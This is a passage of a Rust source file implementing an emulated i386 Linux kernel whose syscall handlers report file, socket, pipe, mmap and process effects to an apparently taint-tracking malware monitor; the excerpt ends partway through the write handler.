//! The kernel: syscall handlers, process construction, virtual time.
//!
//! Syscalls follow the i386 Linux convention the paper's Harrier hooks:
//! `int 0x80` with the number in `eax` and arguments in `ebx`, `ecx`,
//! `edx`. The ABI itself — numbers, names, argument kinds, dispatch —
//! is defined once in [`crate::abi`] by `define_syscalls!`; this module
//! provides the handler *semantics*. Every serviced call returns a
//! [`SyscallRecord`] describing the *observable effect* — which
//! resource was touched, which memory ranges were read or written,
//! where name/address arguments lived — which is exactly the
//! information Harrier needs to tag data and emit Secpert events
//! without re-parsing arguments itself.

use std::collections::{HashMap, VecDeque};

use hth_vm::{asm, Core, Reg, VmError};

use crate::abi::{self, sockcall, CStrArg};
use crate::net::{Endpoint, NetError, Network, SocketState};
use crate::process::{FdKind, FdTable, ProcState, Process};
use crate::vfs::{FileKind, Vfs};

/// `open` flag bits (subset).
pub mod oflags {
    #![allow(missing_docs)]
    pub const RDONLY: u32 = 0;
    pub const WRONLY: u32 = 0x1;
    pub const RDWR: u32 = 0x2;
    pub const CREAT: u32 = 0x40;
    pub const TRUNC: u32 = 0x200;
    pub const APPEND: u32 = 0x400;
}

/// Errno values (returned negated).
pub mod errno {
    #![allow(missing_docs)]
    pub const ENOENT: i32 = 2;
    pub const ESRCH: i32 = 3;
    pub const ENOEXEC: i32 = 8;
    pub const EBADF: i32 = 9;
    pub const EAGAIN: i32 = 11;
    pub const ENOMEM: i32 = 12;
    pub const EFAULT: i32 = 14;
    pub const EINVAL: i32 = 22;
    pub const ENOSYS: i32 = 38;
    pub const ECONNREFUSED: i32 = 111;
}

/// A kernel-level resource, as seen at a syscall boundary.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Resource {
    /// A VFS file.
    File {
        /// Path.
        path: String,
        /// True for FIFOs.
        fifo: bool,
    },
    /// Console input.
    Stdin,
    /// Console output.
    Stdout,
    /// Console error.
    Stderr,
    /// A socket with whatever endpoints are known.
    Socket {
        /// Local endpoint if bound/connected.
        local: Option<Endpoint>,
        /// Remote endpoint if connected.
        remote: Option<Endpoint>,
        /// The socket (or its listener) accepts remote connections.
        listening: bool,
        /// This connection was produced by `accept`.
        accepted: bool,
    },
    /// An anonymous pipe (taint is carried end to end by the monitor).
    Pipe {
        /// Kernel pipe id (shared by both ends, inherited across fork).
        id: u64,
    },
    /// A synthesized read-only `/proc` view (self-inspection surface).
    Proc {
        /// Path it was opened with (e.g. `/proc/self/status`).
        path: String,
    },
}

/// Observable effect of a serviced syscall (consumed by Harrier).
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum SyscallEffect {
    /// Nothing the monitor cares about.
    None,
    /// Process exited.
    Exit {
        /// Exit status.
        code: i32,
    },
    /// `fork`/`clone`: the session must create the child via
    /// [`Kernel::fork`] and fix up both `eax` values.
    ForkRequested,
    /// `execve`: the session decides whether to run the new image.
    ExecRequested {
        /// Requested path.
        path: String,
        /// Address of the path string (for resource-id taint).
        path_addr: u32,
        /// True when the kernel knows a binary by this name.
        found: bool,
    },
    /// A resource was opened.
    Open {
        /// New descriptor.
        fd: i32,
        /// What was opened.
        resource: Resource,
        /// Address of the path argument string.
        path_addr: u32,
    },
    /// A descriptor was closed.
    Close {
        /// What it referred to.
        resource: Resource,
    },
    /// Bytes were read into process memory at `[buf, buf+len)`.
    Read {
        /// Source resource.
        resource: Resource,
        /// Destination buffer address.
        buf: u32,
        /// Bytes actually read.
        len: u32,
    },
    /// Bytes were written from process memory at `[buf, buf+len)`.
    Write {
        /// Target resource.
        resource: Resource,
        /// Source buffer address.
        buf: u32,
        /// Bytes written.
        len: u32,
    },
    /// `dup`/`dup2`.
    Dup {
        /// Original descriptor.
        old: i32,
        /// New descriptor.
        new: i32,
        /// Shared resource.
        resource: Resource,
    },
    /// `socket()` created a descriptor.
    SocketCreated {
        /// New descriptor.
        fd: i32,
    },
    /// `bind`.
    Bind {
        /// Socket resource after binding.
        resource: Resource,
        /// Address of the sockaddr argument.
        addr_ptr: u32,
        /// Bound endpoint.
        endpoint: Endpoint,
    },
    /// `listen` — the program is now a server (paper: High-severity
    /// signal when combined with hardcoded addresses).
    Listen {
        /// Listening socket resource.
        resource: Resource,
    },
    /// `connect`.
    Connect {
        /// Connected socket resource.
        resource: Resource,
        /// Address of the sockaddr argument (for resource-id taint).
        addr_ptr: u32,
        /// Remote endpoint.
        endpoint: Endpoint,
    },
    /// `accept` produced a connected socket.
    Accept {
        /// New descriptor.
        fd: i32,
        /// Connected socket resource.
        resource: Resource,
    },
    /// Custom name resolution (`gethostbyname` backend). Harrier
    /// short-circuits taint across this call (paper §7.2).
    Resolve {
        /// The name that was resolved.
        name: String,
        /// Address of the name string.
        name_addr: u32,
        /// Resolution succeeded.
        ok: bool,
    },
    /// `mknod` created a FIFO.
    Mknod {
        /// FIFO path.
        path: String,
        /// Address of the path string.
        path_addr: u32,
    },
    /// `chmod`.
    Chmod {
        /// Path affected.
        path: String,
    },
    /// `nanosleep` advanced virtual time.
    Sleep {
        /// Ticks slept.
        ticks: u64,
    },
    /// `brk` grew the heap (resource-abuse signal, paper §10 item 4).
    Brk {
        /// Bytes requested by this call.
        grew: u64,
        /// Total heap bytes allocated by the process so far.
        total: u64,
    },
    /// `mmap` mapped file bytes into process memory — the monitor tags
    /// `[addr, addr+len)` with the file's data source, so reads through
    /// the mapping inherit the file's taint.
    Mmap {
        /// The mapped file.
        resource: Resource,
        /// Mapping base address.
        addr: u32,
        /// Bytes of file content mapped.
        len: u32,
    },
    /// `munmap` — the monitor clears the range's taint.
    Munmap {
        /// Mapping base address.
        addr: u32,
        /// Length unmapped.
        len: u32,
    },
    /// `pipe` created an anonymous pipe pair.
    PipeCreated {
        /// Read-end descriptor.
        read_fd: i32,
        /// Write-end descriptor.
        write_fd: i32,
        /// Kernel pipe id.
        id: u64,
    },
    /// `kill`: the session delivers the signal (a registered handler
    /// absorbs it; otherwise the target dies with `128 + sig`).
    SignalRequested {
        /// Target pid as passed by the caller.
        target: u32,
        /// Signal number.
        sig: u32,
    },
}

/// A serviced syscall: number, name, return value, effect.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct SyscallRecord {
    /// Raw syscall number.
    pub number: u32,
    /// Symbolic name in the paper's notation (`SYS_execve`).
    pub name: &'static str,
    /// Value placed in `eax`.
    pub ret: i32,
    /// Observable effect.
    pub effect: SyscallEffect,
}

/// A registered executable: assembly source plus the shared objects it
/// links against.
#[derive(Clone, Debug)]
pub struct BinarySpec {
    /// Assembly source text.
    pub source: String,
    /// Library names (must be registered with [`Kernel::register_lib`]).
    pub libs: Vec<String>,
}

/// Base address where application text is assembled.
pub const APP_BASE: u32 = 0x0804_8000;
/// Base address of the first shared object; subsequent ones are spaced
/// by `LIB_STRIDE`.
pub const LIB_BASE: u32 = 0x4000_0000;
/// Address stride between shared objects.
pub const LIB_STRIDE: u32 = 0x0100_0000;
/// Scratch (bss-like) region mapped into every process.
pub const SCRATCH_BASE: u32 = 0x0900_0000;
/// Scratch region size.
pub const SCRATCH_SIZE: u32 = 0x0004_0000;
/// Heap base address (`brk` grows upward from here).
pub const HEAP_BASE: u32 = 0x0a00_0000;
/// Maximum heap bytes a process may map (64 MiB).
pub const MAX_HEAP: u64 = 0x0400_0000;
/// Base address of the `mmap` region (per-process cursor grows upward).
pub const MMAP_BASE: u32 = 0x2000_0000;
/// End of the `mmap` region.
pub const MMAP_LIMIT: u32 = 0x3000_0000;
/// Largest single `mmap` length (1 MiB).
pub const MAX_MMAP_LEN: u32 = 0x0010_0000;
/// Stack region (grows down from `STACK_TOP`).
pub const STACK_BASE: u32 = 0xbfe0_0000;
/// Top of stack mapping.
pub const STACK_TOP: u32 = 0xc000_0000;
/// Descriptor numbers are capped here (`dup2` targets past this fail
/// with `EBADF` instead of growing the table unboundedly).
pub const FD_MAX: i32 = 1024;
/// Most virtual ticks a single `nanosleep`/`select` call may advance
/// the clock by. Without a cap, one garbage 32-bit timeout jumps the
/// clock ~4 billion ticks and 32-bit `time()` wraps into the errno
/// window.
pub const MAX_SLEEP_TICKS: u64 = 100_000;

/// Errors from process construction.
#[derive(Debug)]
pub enum SpawnError {
    /// No binary registered under that path.
    UnknownBinary(String),
    /// A referenced library was never registered.
    UnknownLib(String),
    /// The binary or one of its libraries failed to assemble.
    Asm(asm::AsmError),
    /// Link-time symbol resolution failed.
    Link(VmError),
}

impl std::fmt::Display for SpawnError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            SpawnError::UnknownBinary(p) => write!(f, "no binary registered at `{p}`"),
            SpawnError::UnknownLib(l) => write!(f, "library `{l}` not registered"),
            SpawnError::Asm(e) => write!(f, "{e}"),
            SpawnError::Link(e) => write!(f, "{e}"),
        }
    }
}

impl std::error::Error for SpawnError {}

impl From<asm::AsmError> for SpawnError {
    fn from(e: asm::AsmError) -> SpawnError {
        SpawnError::Asm(e)
    }
}

/// The OS kernel: filesystem, network, clock, binary registry, syscall
/// servicing. Processes themselves are owned by the monitoring session,
/// which drives scheduling; the kernel provides every mechanism.
#[derive(Debug, Default)]
pub struct Kernel {
    /// The filesystem.
    pub vfs: Vfs,
    /// The simulated network.
    pub net: Network,
    ticks: u64,
    instructions: u64,
    instr_per_tick: u64,
    next_pid: u32,
    binaries: HashMap<String, BinarySpec>,
    libs: HashMap<String, String>,
    stdin_script: VecDeque<Vec<u8>>,
    stdout: Vec<u8>,
    /// Anonymous pipe buffers, keyed by pipe id.
    pipes: HashMap<u64, VecDeque<u8>>,
    next_pipe: u64,
    /// Tick of every fork, for the resource-abuse rate rule.
    pub fork_ticks: Vec<u64>,
}

impl Kernel {
    /// Creates a kernel with an empty filesystem and default network.
    pub fn new() -> Kernel {
        Kernel { net: Network::new(), instr_per_tick: 50, next_pid: 1, ..Kernel::default() }
    }

    // ---- configuration -----------------------------------------------------

    /// Registers an executable under `path`.
    pub fn register_binary(&mut self, path: &str, source: &str, libs: &[&str]) {
        self.binaries.insert(
            path.to_string(),
            BinarySpec {
                source: source.to_string(),
                libs: libs.iter().map(|s| s.to_string()).collect(),
            },
        );
    }

    /// Registers a shared object by name.
    pub fn register_lib(&mut self, name: &str, source: &str) {
        self.libs.insert(name.to_string(), source.to_string());
    }

    /// Queues one chunk of console input (one `read(0, …)` consumes one
    /// chunk, like a line-buffered terminal).
    pub fn push_stdin(&mut self, chunk: impl Into<Vec<u8>>) {
        self.stdin_script.push_back(chunk.into());
    }

    /// Everything written to stdout/stderr so far.
    pub fn stdout(&self) -> &[u8] {
        &self.stdout
    }

    /// Sets how many retired instructions make one clock tick.
    pub fn set_instr_per_tick(&mut self, n: u64) {
        self.instr_per_tick = n.max(1);
    }

    // ---- time ---------------------------------------------------------------

    /// Current virtual time.
    pub fn now(&self) -> u64 {
        self.ticks
    }

    /// Accounts retired instructions toward the clock.
    pub fn note_instructions(&mut self, n: u64) {
        self.instructions += n;
        while self.instructions >= self.instr_per_tick {
            self.instructions -= self.instr_per_tick;
            self.ticks += 1;
        }
    }

    // ---- process construction ------------------------------------------------

    fn next_pid(&mut self) -> u32 {
        let pid = self.next_pid;
        self.next_pid += 1;
        pid
    }

    /// Builds a ready-to-run process for a registered binary.
    ///
    /// # Errors
    ///
    /// Returns [`SpawnError`] when the binary/libraries are unknown or
    /// fail to assemble or link.
    pub fn spawn(
        &mut self,
        path: &str,
        argv: &[&str],
        env: &[(&str, &str)],
    ) -> Result<Process, SpawnError> {
        let spec = self
            .binaries
            .get(path)
            .cloned()
            .ok_or_else(|| SpawnError::UnknownBinary(path.to_string()))?;
        let pid = self.next_pid();
        let core = self.build_core(path, &spec)?;
        let mut proc = Process {
            pid,
            parent: 0,
            core,
            fds: FdTable::new(),
            state: ProcState::Running,
            image_name: path.to_string(),
            cmdline: argv.iter().map(|s| s.to_string()).collect(),
            initial_stack: (0, 0),
            start_tick: self.now(),
            heap_bytes: 0,
            mmap_cursor: MMAP_BASE,
            sig_handlers: HashMap::new(),
            delivered_signals: Vec::new(),
        };
        proc.initial_stack = build_initial_stack(&mut proc.core, argv, env);
        proc.core.start();
        Ok(proc)
    }

    fn build_core(&self, path: &str, spec: &BinarySpec) -> Result<Core, SpawnError> {
        let mut core = Core::new();
        let consts = abi::asm_consts();
        let app = asm::assemble_with(path, &spec.source, APP_BASE, &consts)?;
        core.load_image(app);
        for (i, lib) in spec.libs.iter().enumerate() {
            let src = self.libs.get(lib).ok_or_else(|| SpawnError::UnknownLib(lib.clone()))?;
            let img = asm::assemble_with(lib, src, LIB_BASE + i as u32 * LIB_STRIDE, &consts)?;
            core.load_image(img);
        }
        core.link().map_err(SpawnError::Link)?;
        core.mem.map(SCRATCH_BASE, SCRATCH_BASE + SCRATCH_SIZE);
        core.mem.map(STACK_BASE, STACK_TOP);
        Ok(core)
    }

    /// Forks `parent`: clones memory, registers and descriptors. The
    /// child's `eax` is 0; the caller sets the parent's `eax` to the
    /// returned child's pid.
    pub fn fork(&mut self, parent: &Process) -> Process {
        let pid = self.next_pid();
        self.fork_ticks.push(self.now());
        let mut core = parent.core.clone();
        core.cpu.set(Reg::Eax, 0);
        Process {
            pid,
            parent: parent.pid,
            core,
            fds: parent.fds.clone(),
            state: ProcState::Running,
            image_name: parent.image_name.clone(),
            cmdline: parent.cmdline.clone(),
            initial_stack: parent.initial_stack,
            start_tick: self.now(),
            heap_bytes: parent.heap_bytes,
            mmap_cursor: parent.mmap_cursor,
            sig_handlers: parent.sig_handlers.clone(),
            delivered_signals: Vec::new(),
        }
    }

    /// Replaces `proc`'s image with registered binary `path` (the second
    /// half of `execve`). Descriptors survive, memory does not.
    ///
    /// # Errors
    ///
    /// Returns [`SpawnError`] when the binary is unknown or broken.
    pub fn exec_into(
        &mut self,
        proc: &mut Process,
        path: &str,
        argv: &[&str],
    ) -> Result<(), SpawnError> {
        let spec = self
            .binaries
            .get(path)
            .cloned()
            .ok_or_else(|| SpawnError::UnknownBinary(path.to_string()))?;
        let mut core = self.build_core(path, &spec)?;
        let initial_stack = build_initial_stack(&mut core, argv, &[]);
        core.start();
        proc.core = core;
        proc.image_name = path.to_string();
        proc.cmdline = argv.iter().map(|s| s.to_string()).collect();
        proc.initial_stack = initial_stack;
        proc.heap_bytes = 0;
        proc.mmap_cursor = MMAP_BASE;
        proc.sig_handlers.clear();
        Ok(())
    }

    /// True when `path` names a registered binary.
    pub fn knows_binary(&self, path: &str) -> bool {
        self.binaries.contains_key(path)
    }

    // ---- syscall servicing -----------------------------------------------------
    //
    // Dispatch itself (argument extraction, CStr validation, name
    // lookup) is generated from the ABI table in `crate::abi`; the
    // `sys_*` methods below are the handler semantics it invokes.

    /// Services the syscall pending in `proc` (registers per the i386
    /// convention), sets `eax`, and reports what happened.
    pub fn syscall(&mut self, proc: &mut Process) -> SyscallRecord {
        let nr = proc.core.cpu.get(Reg::Eax);
        let (name, ret, effect) = self.dispatch(proc, nr);
        proc.core.cpu.set(Reg::Eax, ret as u32);
        SyscallRecord { number: nr, name, ret, effect }
    }

    pub(crate) fn sys_exit(&mut self, proc: &mut Process, code: u32) -> (i32, SyscallEffect) {
        proc.state = ProcState::Exited(code as i32);
        (0, SyscallEffect::Exit { code: code as i32 })
    }

    pub(crate) fn sys_fork(&mut self, _proc: &mut Process) -> (i32, SyscallEffect) {
        (0, SyscallEffect::ForkRequested)
    }

    pub(crate) fn sys_time(&mut self, _proc: &mut Process) -> (i32, SyscallEffect) {
        (self.now() as i32, SyscallEffect::None)
    }

    pub(crate) fn sys_getpid(&mut self, proc: &mut Process) -> (i32, SyscallEffect) {
        (proc.pid as i32, SyscallEffect::None)
    }

    pub(crate) fn sys_close(&mut self, proc: &mut Process, fd: i32) -> (i32, SyscallEffect) {
        match proc.fds.close(fd) {
            Some(kind) => {
                let resource = self.resource_of(&kind);
                if let FdKind::Socket(id) = kind {
                    self.net.close(id);
                }
                (0, SyscallEffect::Close { resource })
            }
            None => (-errno::EBADF, SyscallEffect::None),
        }
    }

    pub(crate) fn sys_execve(
        &mut self,
        _proc: &mut Process,
        path: CStrArg,
    ) -> (i32, SyscallEffect) {
        let CStrArg { val: path, addr } = path;
        let found = self.knows_binary(&path);
        // The session performs the actual exec (after Secpert has
        // seen the event). The return value assumes failure; a
        // successful exec never returns.
        let ret = if found {
            0
        } else if self.vfs.exists(&path) {
            -errno::ENOEXEC
        } else {
            -errno::ENOENT
        };
        (ret, SyscallEffect::ExecRequested { path, path_addr: addr, found })
    }

    pub(crate) fn sys_mknod(
        &mut self,
        _proc: &mut Process,
        path: CStrArg,
        _mode: u32,
    ) -> (i32, SyscallEffect) {
        let CStrArg { val: path, addr } = path;
        self.vfs.mkfifo(&path);
        (0, SyscallEffect::Mknod { path, path_addr: addr })
    }

    pub(crate) fn sys_chmod(
        &mut self,
        _proc: &mut Process,
        path: CStrArg,
        mode: u32,
    ) -> (i32, SyscallEffect) {
        let exec = mode & 0o111 != 0;
        if self.vfs.chmod_exec(&path.val, exec) {
            (0, SyscallEffect::Chmod { path: path.val })
        } else {
            (-errno::ENOENT, SyscallEffect::None)
        }
    }

    pub(crate) fn sys_dup(&mut self, proc: &mut Process, fd: i32) -> (i32, SyscallEffect) {
        match proc.fds.dup(fd) {
            Some(new) => {
                let resource = proc.fds.get(new).map(|k| self.resource_of(k)).expect("just dup'ed");
                (new, SyscallEffect::Dup { old: fd, new, resource })
            }
            None => (-errno::EBADF, SyscallEffect::None),
        }
    }

    pub(crate) fn sys_dup2(
        &mut self,
        proc: &mut Process,
        old: i32,
        new: i32,
    ) -> (i32, SyscallEffect) {
        if !(0..FD_MAX).contains(&new) {
            return (-errno::EBADF, SyscallEffect::None);
        }
        let Some(kind) = proc.fds.get(old).cloned() else {
            return (-errno::EBADF, SyscallEffect::None);
        };
        let resource = self.resource_of(&kind);
        if old == new {
            return (new, SyscallEffect::Dup { old, new, resource });
        }
        if let Some(FdKind::Socket(id)) = proc.fds.replace(new, kind) {
            self.net.close(id);
        }
        (new, SyscallEffect::Dup { old, new, resource })
    }

    pub(crate) fn sys_pipe(&mut self, proc: &mut Process, fds_ptr: u32) -> (i32, SyscallEffect) {
        // Validate the output pointer before allocating anything.
        if proc.core.mem.write_u32(fds_ptr, 0).is_err()
            || proc.core.mem.write_u32(fds_ptr + 4, 0).is_err()
        {
            return (-errno::EFAULT, SyscallEffect::None);
        }
        let id = self.next_pipe;
        self.next_pipe += 1;
        self.pipes.insert(id, VecDeque::new());
        let read_fd = proc.fds.alloc(FdKind::Pipe { id, write: false });
        let write_fd = proc.fds.alloc(FdKind::Pipe { id, write: true });
        proc.core.mem.write_u32(fds_ptr, read_fd as u32).expect("validated above");
        proc.core.mem.write_u32(fds_ptr + 4, write_fd as u32).expect("validated above");
        (0, SyscallEffect::PipeCreated { read_fd, write_fd, id })
    }

    pub(crate) fn sys_kill(
        &mut self,
        _proc: &mut Process,
        pid: u32,
        sig: u32,
    ) -> (i32, SyscallEffect) {
        (0, SyscallEffect::SignalRequested { target: pid, sig })
    }

    pub(crate) fn sys_sigaction(
        &mut self,
        proc: &mut Process,
        sig: u32,
        handler: u32,
    ) -> (i32, SyscallEffect) {
        if sig == 0 || sig > 64 {
            return (-errno::EINVAL, SyscallEffect::None);
        }
        proc.sig_handlers.insert(sig, handler);
        (0, SyscallEffect::None)
    }

    pub(crate) fn sys_select(
        &mut self,
        proc: &mut Process,
        nfds: u32,
        readfds: u32,
        timeout: u32,
    ) -> (i32, SyscallEffect) {
        let Ok(mask) = proc.core.mem.read_u32(readfds) else {
            return (-errno::EFAULT, SyscallEffect::None);
        };
        let mut ready = 0u32;
        for fd in 0..nfds.min(32) {
            if mask & (1 << fd) != 0 && self.fd_readable(proc, fd as i32) {
                ready |= 1 << fd;
            }
        }
        if ready == 0 && timeout > 0 {
            // A fruitless wait burns the timeout in virtual time, so
            // polling servers make forward progress on the clock.
            self.ticks += u64::from(timeout).min(MAX_SLEEP_TICKS);
        }
        if proc.core.mem.write_u32(readfds, ready).is_err() {
            return (-errno::EFAULT, SyscallEffect::None);
        }
        (ready.count_ones() as i32, SyscallEffect::None)
    }

    fn fd_readable(&self, proc: &Process, fd: i32) -> bool {
        match proc.fds.get(fd) {
            None | Some(FdKind::Stdout | FdKind::Stderr) => false,
            Some(FdKind::Stdin) => !self.stdin_script.is_empty(),
            Some(FdKind::File { path, fifo, .. }) => {
                if *fifo {
                    matches!(
                        self.vfs.get(path).map(|n| &n.kind),
                        Some(FileKind::Fifo(q)) if !q.is_empty()
                    )
                } else {
                    self.vfs.exists(path)
                }
            }
            Some(FdKind::Pipe { id, write }) => {
                !*write && self.pipes.get(id).is_some_and(|q| !q.is_empty())
            }
            Some(FdKind::Proc { data, offset, .. }) => *offset < data.len(),
            Some(FdKind::Socket(id)) => self.net.readable(*id),
        }
    }

    pub(crate) fn sys_mmap(
        &mut self,
        proc: &mut Process,
        fd: i32,
        len: u32,
        offset: u32,
    ) -> (i32, SyscallEffect) {
        if len == 0 || len > MAX_MMAP_LEN {
            return (-errno::EINVAL, SyscallEffect::None);
        }
        let Some(kind) = proc.fds.get(fd).cloned() else {
            return (-errno::EBADF, SyscallEffect::None);
        };
        let FdKind::File { path, fifo: false, .. } = kind else {
            return (-errno::EINVAL, SyscallEffect::None);
        };
        let Some(data) = self.vfs.read(&path, offset as usize, len as usize) else {
            return (-errno::ENOENT, SyscallEffect::None);
        };
        let addr = proc.mmap_cursor;
        let span = (len + 0xfff) & !0xfff;
        if addr.checked_add(span).is_none_or(|end| end > MMAP_LIMIT) {
            return (-errno::ENOMEM, SyscallEffect::None);
        }
        proc.core.mem.map(addr, addr + span);
        proc.core.mem.write_bytes(addr, &data).expect("just mapped");
        proc.mmap_cursor = addr + span;
        (
            addr as i32,
            SyscallEffect::Mmap {
                resource: Resource::File { path, fifo: false },
                addr,
                len: data.len() as u32,
            },
        )
    }

    pub(crate) fn sys_munmap(
        &mut self,
        proc: &mut Process,
        addr: u32,
        len: u32,
    ) -> (i32, SyscallEffect) {
        if len == 0 || addr < MMAP_BASE || addr >= proc.mmap_cursor {
            return (-errno::EINVAL, SyscallEffect::None);
        }
        // Pages stay mapped (stray loads fault-free like real lazy
        // unmap would not, but determinism matters more here); the
        // monitor clears the range's taint.
        (0, SyscallEffect::Munmap { addr, len })
    }

    pub(crate) fn sys_brk(&mut self, proc: &mut Process, incr: u32) -> (i32, SyscallEffect) {
        // Simplified brk: `incr` = bytes to grow the heap by.
        let grew = u64::from(incr);
        let old_total = proc.heap_bytes;
        proc.heap_bytes += grew;
        if grew > 0 && proc.heap_bytes <= MAX_HEAP {
            // Guarded: old_total < MAX_HEAP here, so the u32 base
            // arithmetic cannot wrap (fuzzed callers can otherwise push
            // heap_bytes past 4 GiB).
            let base = HEAP_BASE + old_total as u32;
            proc.core.mem.map(base, base + grew as u32);
        }
        (
            (HEAP_BASE as u64 + proc.heap_bytes) as i32,
            SyscallEffect::Brk { grew, total: proc.heap_bytes },
        )
    }

    pub(crate) fn sys_nanosleep(
        &mut self,
        _proc: &mut Process,
        ticks: u32,
    ) -> (i32, SyscallEffect) {
        let slept = u64::from(ticks).min(MAX_SLEEP_TICKS);
        self.ticks += slept;
        (0, SyscallEffect::Sleep { ticks: slept })
    }

    pub(crate) fn sys_resolve(
        &mut self,
        _proc: &mut Process,
        name: CStrArg,
    ) -> (i32, SyscallEffect) {
        let CStrArg { val: name, addr } = name;
        match self.net.resolve(&name) {
            Ok(ip) => (ip as i32, SyscallEffect::Resolve { name, name_addr: addr, ok: true }),
            Err(_) => (0, SyscallEffect::Resolve { name, name_addr: addr, ok: false }),
        }
    }

    fn resource_of(&self, kind: &FdKind) -> Resource {
        match kind {
            FdKind::Stdin => Resource::Stdin,
            FdKind::Stdout => Resource::Stdout,
            FdKind::Stderr => Resource::Stderr,
            FdKind::File { path, fifo, .. } => Resource::File { path: path.clone(), fifo: *fifo },
            FdKind::Pipe { id, .. } => Resource::Pipe { id: *id },
            FdKind::Proc { path, .. } => Resource::Proc { path: path.clone() },
            FdKind::Socket(id) => match self.net.get(*id) {
                Ok(sock) => match sock.state {
                    SocketState::Connected { local, remote, accepted } => Resource::Socket {
                        local: Some(local),
                        remote: Some(remote),
                        listening: false,
                        accepted,
                    },
                    SocketState::Listening(ep) => Resource::Socket {
                        local: Some(ep),
                        remote: None,
                        listening: true,
                        accepted: false,
                    },
                    SocketState::Bound(ep) => Resource::Socket {
                        local: Some(ep),
                        remote: None,
                        listening: false,
                        accepted: false,
                    },
                    _ => Resource::Socket {
                        local: None,
                        remote: None,
                        listening: false,
                        accepted: false,
                    },
                },
                Err(_) => Resource::Socket {
                    local: None,
                    remote: None,
                    listening: false,
                    accepted: false,
                },
            },
        }
    }

    /// Synthesizes the read-only `/proc` self-view for `path`, when it
    /// is one the kernel provides (`/proc/self/…` or `/proc/<own pid>/…`
    /// with leaf `status` or `cmdline`).
    fn proc_view(&self, proc: &Process, path: &str) -> Option<Vec<u8>> {
        let rest = path.strip_prefix("/proc/")?;
        let (who, leaf) = rest.split_once('/')?;
        let pid = if who == "self" { proc.pid } else { who.parse::<u32>().ok()? };
        if pid != proc.pid {
            // Views of *other* processes are not synthesized; a
            // matching VFS file (e.g. procex's planted /proc/1/environ)
            // is served as a plain file instead.
            return None;
        }
        match leaf {
            "status" => {
                let image = proc.image_name.rsplit('/').next().unwrap_or(proc.image_name.as_str());
                Some(
                    format!(
                        "Name:\t{image}\nPid:\t{}\nPPid:\t{}\nTracerPid:\t0\n",
                        proc.pid, proc.parent
                    )
                    .into_bytes(),
                )
            }
            "cmdline" => {
                let mut data = Vec::new();
                for arg in &proc.cmdline {
                    data.extend_from_slice(arg.as_bytes());
                    data.push(0);
                }
                Some(data)
            }
            _ => None,
        }
    }

    pub(crate) fn sys_open(
        &mut self,
        proc: &mut Process,
        path: CStrArg,
        flags: u32,
    ) -> (i32, SyscallEffect) {
        let CStrArg { val: path, addr: path_addr } = path;
        let writing = flags & (oflags::WRONLY | oflags::RDWR | oflags::CREAT) != 0;
        if !writing {
            if let Some(data) = self.proc_view(proc, &path) {
                let fd = proc.fds.alloc(FdKind::Proc { path: path.clone(), data, offset: 0 });
                return (
                    fd,
                    SyscallEffect::Open { fd, resource: Resource::Proc { path }, path_addr },
                );
            }
        }
        if writing {
            self.vfs.open_write(&path, flags & oflags::TRUNC != 0);
        } else if !self.vfs.exists(&path) {
            return (-errno::ENOENT, SyscallEffect::None);
        }
        let fifo = matches!(self.vfs.get(&path).map(|n| &n.kind), Some(FileKind::Fifo(_)));
        let offset = if flags & oflags::APPEND != 0 {
            self.vfs.get(&path).map_or(0, |n| n.data().len())
        } else {
            0
        };
        let fd = proc.fds.alloc(FdKind::File { path: path.clone(), offset, fifo });
        (fd, SyscallEffect::Open { fd, resource: Resource::File { path, fifo }, path_addr })
    }

    pub(crate) fn sys_read(
        &mut self,
        proc: &mut Process,
        fd: i32,
        buf: u32,
        len: u32,
    ) -> (i32, SyscallEffect) {
        let Some(kind) = proc.fds.get(fd).cloned() else {
            return (-errno::EBADF, SyscallEffect::None);
        };
        let resource = self.resource_of(&kind);
        let bytes: Vec<u8> = match kind {
            FdKind::Stdin => self.stdin_script.pop_front().unwrap_or_default(),
            FdKind::Stdout | FdKind::Stderr => return (-errno::EBADF, SyscallEffect::None),
            FdKind::File { ref path, offset, .. } => {
                let Some(data) = self.vfs.read(path, offset, len as usize) else {
                    return (-errno::ENOENT, SyscallEffect::None);
                };
                if let Some(FdKind::File { offset, .. }) = proc.fds.get_mut(fd) {
                    *offset += data.len();
                }
                data
            }
            FdKind::Pipe { id, write } => {
                if write {
                    return (-errno::EBADF, SyscallEffect::None);
                }
                let Some(queue) = self.pipes.get_mut(&id) else {
                    return (-errno::EBADF, SyscallEffect::None);
                };
                if queue.is_empty() {
                    return (-errno::EAGAIN, SyscallEffect::None);
                }
                let take = queue.len().min(len as usize);
                queue.drain(..take).collect()
            }
            FdKind::Proc { ref data, offset, .. } => {
                let start = offset.min(data.len());
                let end = (start + len as usize).min(data.len());
                let chunk = data[start..end].to_vec();
                if let Some(FdKind::Proc { offset, .. }) = proc.fds.get_mut(fd) {
                    *offset += chunk.len();
                }
                chunk
            }
            FdKind::Socket(id) => match self.net.recv(id, len as usize) {
                Ok(data) => data,
                Err(NetError::WouldBlock) => return (-errno::EAGAIN, SyscallEffect::None),
                Err(_) => return (-errno::EINVAL, SyscallEffect::None),
            },
        };
        let take = bytes.len().min(len as usize);
        if proc.core.mem.write_bytes(buf, &bytes[..take]).is_err() {
            return (-errno::EFAULT, SyscallEffect::None);
        }
        (take as i32, SyscallEffect::Read { resource, buf, len: take as u32 })
    }

    pub(crate) fn sys_write(
        &mut self,
        proc: &mut Process,
        fd: i32,
        buf: u32,
        len: u32,
    ) -> (i32, SyscallEffect) {
        let Some(kind) = proc.fds.get(fd).cloned() else {
            return (-errno::EBADF, SyscallEffect::None);
        };
        let resource = self.resource_of(&kind);
        let Ok(bytes) = proc.core.mem.read_bytes(buf, len) else {
            return (-errno::EFAULT, SyscallEffect::None);
        };
        let written = match kind {
            FdKind::Stdin | FdKind::Proc { .. } => {
                return (-errno::EBADF, SyscallEffect::None);
            }
            FdKind::Stdout | FdKind::Stderr => {
                self.stdout.extend_from_slice(&bytes);
                bytes.len()
            }
            FdKind::File { ref path, offset, .. } => {
                let Some(n) = self.vfs.write(path, offset, &bytes) else {
                    return (-errno::ENOENT, SyscallEffect::None);
                };
                if let Some(FdKind::File { offset, .. }) = proc.fds.get_mut(fd) {
                    *offset += n;
                }
                n
            }
            FdKind::Pipe { id, write } => {
                if !write {
                    return (-errno::EBADF, SyscallEffect::None);
                }
                let Some(queue) = self.pipes.get_mut(&id) else {
                    return (-errno::EBADF, SyscallEffect::None);
                };
